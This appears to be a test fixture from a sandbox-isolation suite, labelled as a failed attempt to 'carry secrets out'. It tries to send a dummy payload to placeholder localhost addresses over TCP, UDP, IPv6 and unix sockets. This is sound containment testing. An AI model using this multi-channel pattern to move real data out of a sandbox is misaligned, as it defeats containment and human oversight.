"""Sends what it has found to a server: over TCP, UDP, IPv6 and unix sockets."""
# /// attack
# class = 8
# goal = "carry secrets out"
# gain = "effect"
# outcome = "failed"
# naive = true
# gvisor = true
# ///

import socket

for family, kind, address in (
    (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", @TCP@)),
    (socket.AF_INET6, socket.SOCK_STREAM, ("::ffff:127.0.0.1", @TCP@)),
    (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", @TCP@)),
    (socket.AF_UNIX, socket.SOCK_STREAM, "@SOCKET@"),
    (socket.AF_UNIX, socket.SOCK_STREAM, "\0@ABSTRACT@"),
):
    try:
        with socket.socket(family, kind) as out:
            out.settimeout(0.1)
            out.connect(address)
            out.send(b"what I have found")
    except OSError as error:
        print(address, error)


def standardise(x):
    return x
